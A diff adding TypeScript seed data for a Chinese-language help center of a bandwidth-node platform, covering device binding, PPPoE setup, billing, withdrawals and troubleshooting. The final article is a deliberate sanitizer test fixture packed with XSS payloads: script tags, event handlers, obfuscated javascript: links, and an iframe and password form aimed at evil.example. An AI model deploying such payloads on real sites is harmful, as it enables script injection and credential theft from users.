@@ -1,0 +1,214 @@
+/** The help center: what its editors have published (§7.7). */
+
+export interface HelpSeed {
+  readonly id: string;
+  readonly title: string;
+  /** HTML */
+  readonly content: string;
+  readonly updatedAt: string;
+}
+
+interface HelpTagSeed {
+  readonly id: string;
+  readonly name: string;
+  readonly articles: readonly HelpSeed[];
+}
+
+/** 10255 is the tutorial that /help/bind_device leads to (§2.5). */
+const BINDING_HELP: readonly HelpSeed[] = [
+  {
+    id: '10255',
+    title: '设备绑定教程',
+    updatedAt: '2026-10-28',
+    content: `<p>本教程说明怎样把一台服务器或小型主机装上节点系统并绑定到您的账号。全程约二十分钟，<strong>请准备一个 8 GB 以上的 U 盘</strong>。</p>
+<h2>一、准备</h2>
+<ol>
+<li>处理器 4 核以上，内存 8 GB 以上，系统盘 64 GB 以上；数据盘越大，能承接的业务越多。</li>
+<li>有线网卡 1000 M 以上。百兆网卡不计入可用线路。</li>
+<li>运营商提供的宽带账号，或固定公网地址、掩码和网关。</li>
+</ol>
+<h2>二、下载镜像并写入 U 盘</h2>
+<ol>
+<li>在“绑定节点”页点击<strong>生成地址</strong>，下载推荐版本的镜像。下载地址三小时内有效，过期后点击刷新即可。</li>
+<li>核对 MD5，确认文件完整：
+<pre><code># Windows
+certutil -hashfile partner-node-3.8.2.img MD5
+# macOS
+md5 partner-node-3.8.2.img
+# Linux
+md5sum partner-node-3.8.2.img</code></pre></li>
+<li>用写盘工具把镜像写入 U 盘。写入会清空 U 盘上的全部内容。</li>
+</ol>
+<h2>三、安装</h2>
+<ol>
+<li>插入 U 盘，开机时进入启动菜单，选择 U 盘启动。</li>
+<li>按提示选择系统盘。<strong>所选磁盘会被清空，请先备份。</strong></li>
+<li>安装完成后拔出 U 盘并重启，屏幕上会显示 32 位的节点 UUID 和一个二维码。</li>
+</ol>
+<h2>四、绑定</h2>
+<table>
+<thead><tr><th>方式</th><th>步骤</th></tr></thead>
+<tbody>
+<tr><td>小程序</td><td>用“绑定节点”页上的二维码打开小程序，再扫描节点屏幕上的二维码</td></tr>
+<tr><td>手机网页</td><td>打开 <code>/m/bind</code>，输入节点 UUID 和备注</td></tr>
+</tbody>
+</table>
+<p>绑定成功后，节点会在几分钟内出现在“节点列表”。接下来请<a href="/help-center/2/10301">配置拨号</a>。</p>
+<h2>五、常见问题</h2>
+<h3>提示“该节点已被其他账号绑定”</h3>
+<p>二手设备可能仍绑定在原主人的账号下，请联系原主人解绑，或通过工单提供购买凭证。</p>
+<h3>屏幕没有显示二维码</h3>
+<p>请确认显示器接在主板的接口上，并按任意键唤醒屏幕。</p>`,
+  },
+  {
+    id: '10256',
+    title: '哪些设备可以成为节点',
+    updatedAt: '2026-09-30',
+    content: `<p>x86 服务器、工控机和小型主机都可以。ARM 设备目前只支持列表内的型号。</p>
+<table><thead><tr><th>项目</th><th>最低</th><th>推荐</th></tr></thead>
+<tbody><tr><td>处理器</td><td>4 核</td><td>8 核以上</td></tr><tr><td>内存</td><td>8 GB</td><td>16 GB 以上</td></tr><tr><td>数据盘</td><td>512 GB</td><td>2 TB 以上固态硬盘</td></tr><tr><td>网卡</td><td>1000 M</td><td>10 G</td></tr></tbody></table>
+<blockquote><p>旧笔记本电脑能运行，但长时间满负荷会过热，不建议使用。</p></blockquote>`,
+  },
+  {
+    id: '10257',
+    title: '认识控制台',
+    updatedAt: '2026-08-12',
+    content: `<p>登录后默认进入数据概览。左侧菜单可以收起，收起的状态会被记住。</p>
+<ul><li><strong>数据概览</strong>：昨日收入、累计收入、带宽曲线。</li><li><strong>节点列表</strong>：每台设备的在线状态和收入。</li><li><strong>账单结算</strong>：钱包、账单与提现。</li><li><strong>用户中心</strong>：实名认证、收款信息、密码。</li></ul>`,
+  },
+];
+
+const DIALLING_HELP: readonly HelpSeed[] = [
+  {
+    id: '10301',
+    title: '怎样配置拨号',
+    updatedAt: '2026-11-02',
+    content: `<p>在“节点列表”中打开设备的<strong>配置网络</strong>，选择网卡后进入拨号配置。一张网卡可以有多条线路，每条线路一种方式：</p>
+<table><thead><tr><th>方式</th><th>需要填写</th></tr></thead><tbody>
+<tr><td>DHCP</td><td>无；地址由上级设备分配</td></tr>
+<tr><td>静态地址</td><td>IP 地址、子网掩码、网关</td></tr>
+<tr><td>PPPoE</td><td>宽带账号和密码</td></tr></tbody></table>
+<p>运营商要求标记 VLAN 的，请填写 1 至 4094 的编号；不要求的留空。</p>
+<p><strong>保存后，该网卡原有的全部线路会被替换。</strong>已经保存的 PPPoE 密码不会显示；账号不变时，密码留空即保持不变。</p>`,
+  },
+  {
+    id: '10302',
+    title: '什么时候需要管理网卡',
+    updatedAt: '2026-10-11',
+    content: `<p>下列三种上网方式需要先选择一张<strong>管理网卡</strong>，平台经它与节点保持联系：</p>
+<ol><li>服务器直接上网；</li><li>固定公网多 IP；</li><li>路由器一对一映射。</li></ol>
+<p>管理网卡须已获得 IP 地址。解绑后节点不会立即离线，但在重新绑定之前不能修改拨号。</p>`,
+  },
+  {
+    id: '10303',
+    title: '静态地址填写示例',
+    updatedAt: '2026-07-22',
+    content: `<p>运营商给出“203.0.113.40/29，网关 203.0.113.41”时，应填写：</p>
+<pre><code>IP 地址    203.0.113.42
+子网掩码   255.255.255.248
+网关       203.0.113.41</code></pre>
+<p>网段的第一个地址（203.0.113.40）是网络地址，最后一个（203.0.113.47）是广播地址，都不能分配给线路。</p>`,
+  },
+  {
+    id: '10304',
+    title: 'PPPoE 错误代码',
+    updatedAt: '2026-06-18',
+    content: `<dl><dt>691</dt><dd>账号或密码错误，或宽带欠费。</dd><dt>678</dt><dd>运营商设备没有应答，请检查光猫和网线。</dd><dt>619</dt><dd>上一次连接尚未断开，请等待两分钟。</dd></dl>`,
+  },
+];
+
+const MONEY_HELP: readonly HelpSeed[] = [
+  {
+    id: '10401',
+    title: '周结与月结有什么不同',
+    updatedAt: '2026-10-20',
+    content: `<ul><li><strong>周结</strong>：上周收入在下一个周三进入周结钱包；周三申请，周四到账，每个周三可提现一次，限额 1.00 至 30000.00 元。</li><li><strong>月结</strong>：账单经核对和确认后放入月结钱包，在每月的提现日申请。</li></ul>
+<p>非 95 计费的设备和托管设备只能月结。</p>`,
+  },
+  {
+    id: '10402',
+    title: '95 计费怎样计算',
+    updatedAt: '2026-09-09',
+    content: `<p>每五分钟采样一次带宽。将计费时段内的采样值由高到低排列，去掉最高的 5%，其后的最大值就是计费带宽。</p>
+<pre><code>收入 = 计费带宽（Gbps） × 单价（元/月/G） ÷ 当月天数</code></pre>`,
+  },
+  {
+    id: '10403',
+    title: '提现失败怎么办',
+    updatedAt: '2026-08-30',
+    content: `<p>失败的提现会<strong>全额退回</strong>钱包，已扣的税费一并返还。最常见的原因：</p><ol><li>收款账户的户名与实名认证的姓名不一致；</li><li>银行卡已注销或被限制；</li><li>支付宝账号填写错误。</li></ol><p>请在“用户中心 › 收款信息”更正后重新申请。</p>`,
+  },
+  {
+    id: '10404',
+    title: '税费说明',
+    updatedAt: '2026-07-01',
+    content: `<table><thead><tr><th>收款方式</th><th>税费</th></tr></thead><tbody><tr><td>个人支付宝、个人银行卡</td><td>6%</td></tr><tr><td>企业，6% 专用发票</td><td>平台不另扣</td></tr><tr><td>企业，普通发票或 1%、3% 专用发票</td><td>平台代扣 3%</td></tr></tbody></table>`,
+  },
+];
+
+const ACCOUNT_HELP: readonly HelpSeed[] = [
+  {
+    id: '10501',
+    title: '忘记登录密码',
+    updatedAt: '2026-10-05',
+    content: `<p>在登录页点击<strong>忘记密码</strong>，用绑定的手机号接收验证码并设置新密码。设置后，其他设备上的登录会全部退出。</p>`,
+  },
+  {
+    id: '10502',
+    title: '更换提现手机号',
+    updatedAt: '2026-09-15',
+    content: `<p>先验证原手机号，再绑定新手机号。登录仍使用用户名；新手机号用于核验收款信息和提现。</p><p>原手机号已停用的，请联系商务人员核实身份后更换。</p>`,
+  },
+  {
+    id: '10503',
+    title: '实名认证的注意事项',
+    updatedAt: '2026-08-01',
+    content: `<ul><li>认证通过后不可修改。</li><li>失败超过 5 次将无法提现，请核对后再提交。</li><li>收款账户须为本人账户。</li></ul>`,
+  },
+  {
+    id: '10504',
+    title: '怎样识别诈骗',
+    updatedAt: '2026-11-10',
+    content: `<p>平台人员<strong>不会</strong>索要短信验证码、登录密码或钱包密码，也不会要求您向任何账户转账。</p>`,
+  },
+];
+
+const TROUBLE_HELP: readonly HelpSeed[] = [
+  {
+    id: '10601',
+    title: '节点显示离线',
+    updatedAt: '2026-11-06',
+    content: `<ol><li>确认设备通电，网口指示灯闪烁。</li><li>在“配置网络”中查看网卡是否有 IP 地址。</li><li>用手机连接同一宽带，确认能够上网。</li><li>重启光猫，等待五分钟。</li></ol><p>仍然离线的，请提交工单并附上节点 UUID。</p>`,
+  },
+  {
+    id: '10602',
+    title: '晚高峰带宽偏低',
+    updatedAt: '2026-10-16',
+    content: `<p>请依次检查：家中是否有其他设备占用上行；运营商是否限速；网线是否为超五类以上；网卡是否协商为百兆。</p>`,
+  },
+  {
+    id: '10603',
+    title: '当日没有计费的原因',
+    updatedAt: '2026-09-01',
+    content: `<ul><li>18 点至 24 点累计离线超过 15 分钟，设备当日不计费；</li><li>晚高峰单条线路离线超过 30 分钟，该线路不计费；</li><li>当日在线不足 12 小时；</li><li>限速或作弊。</li></ul>`,
+  },
+  {
+    // What an editor's copy and paste, or a break-in, could bring: none of it may run or load (hazard 8).
+    id: '10666',
+    title: '含有危险内容的文章 <script>document.title="harmed"</script>',
+    updatedAt: '2026-05-05',
+    content: `<p onclick="document.title='harmed'">这篇文章用于检查页面是否安全，正文应当正常显示。</p>
+<script>document.title='harmed'</script><img src="x" onerror="document.title='harmed'"><svg onload="document.title='harmed'"><script>document.title='harmed'</script></svg>
+<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"><button>登录</button></form>
+<a href="javascript:document.title='harmed'">脚本链接</a> <a href="java&#9;script:alert(1)">含制表符的链接</a> <a href="data:text/html,x">数据链接</a> <a href="https://docs.partner.example/ok">正常链接</a>
+<style>body{display:none}</style><p style="position:fixed;inset:0">盖住页面的段落</p><p>正文结束。</p>`,
+  },
+];
+
+export const HELP: readonly HelpTagSeed[] = [
+  { id: '1', name: '新手入门', articles: BINDING_HELP },
+  { id: '2', name: '拨号与网络', articles: DIALLING_HELP },
+  { id: '3', name: '收入与提现', articles: MONEY_HELP },
+  { id: '4', name: '账号与安全', articles: ACCOUNT_HELP },
+  { id: '5', name: '故障排查', articles: TROUBLE_HELP },
+];
